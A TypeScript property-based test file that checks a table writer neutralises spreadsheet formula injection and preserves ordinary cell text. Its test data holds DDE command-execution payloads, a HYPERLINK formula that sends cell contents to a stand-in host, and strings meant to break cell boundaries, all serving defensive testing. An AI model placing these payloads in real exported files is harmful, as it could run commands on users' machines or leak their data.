import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inertCell, parseTable, readCell, writeTable } from '../../../shared/domain/delimited.ts';

/** First signs of a formula, as ASCII has them, in the widths of other scripts, and behind blanks. */
const signs = [
  '=',
  '+',
  '-',
  '@',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\ufe66',
  '\ufe62',
  '\ufe63',
];
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u0000',
  "'",
  "''",
  " '",
];
const attacks = [
  ...signs.flatMap((sign) => before.map((blank) => `${blank}${sign}cmd|'/c calc'!A1`)),
  '=HYPERLINK("https://example.invalid/?"&A1,"go")',
  "+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '=1+1";=2+2',
  '","=1+1","',
  '"\r\n=1+1',
];

/** What a spreadsheet reads as the first sign of a cell: blanks and what is unseen do not count. */
const firstSign = (cell: string): string => /[^\s\p{Cc}\p{Cf}]/u.exec(cell)?.[0] ?? '';

describe('a cell', () => {
  it.each(attacks)('%j runs in no spreadsheet', (text) => {
    const { rows } = parseTable(
      writeTable([
        ['Head', 'Text'],
        ['x', text],
      ]),
    );
    // One row of two cells: no text makes cells or rows of its own.
    expect(rows.map(({ cells }) => cells.length)).toEqual([2, 2]);
    expect(signs).not.toContain(firstSign(rows[1]?.cells[1] ?? ''));
  });

  it('is left as it is where it is no formula', () => {
    for (const text of ['Plain', "O'Neill", "'quoted'", '5 - 3', 'a=b', '', '100 %']) {
      expect(inertCell(text)).toBe(text);
    }
  });

  it('comes back as the very text that was written, blanks at its ends apart', () => {
    const text = fc.oneof(
      fc.constantFrom(...attacks),
      fc.string({ unit: 'grapheme' }),
      fc
        .tuple(fc.constantFrom(...before), fc.constantFrom(...signs), fc.string())
        .map((all) => all.join('')),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 8 }), (lines) => {
        const { rows } = parseTable(
          writeTable([['Head', 'Text'], ...lines.map(([a, b]) => [`x${a}`, b])]),
        );
        const read = rows.slice(1).map(({ cells }) => readCell(cells[1]).trim());
        expect(read).toEqual(lines.map(([, written]) => written.trim()));
      }),
      { numRuns: 500 },
    );
  });
});
